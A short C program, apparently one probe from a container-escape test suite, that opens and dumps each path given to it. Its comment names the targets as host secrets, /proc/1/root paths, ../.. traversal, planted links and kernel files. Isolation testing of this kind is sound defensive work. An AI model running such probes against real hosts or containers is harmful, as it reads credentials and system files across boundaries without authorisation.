/* Reads each path given (host secrets, /proc/1/root/..., ../.., planted links, kernel files). */
#include "attack.h"
int main(int argc, char **argv) {
    for (int i = 2; i < argc; i++) {
        int fd = open(argv[i], O_RDONLY | O_NONBLOCK);
        if (fd < 0) { step(argv[i], -1); continue; }
        dump_fd(argv[i], fd);
        close(fd);
    }
    return 0;
}
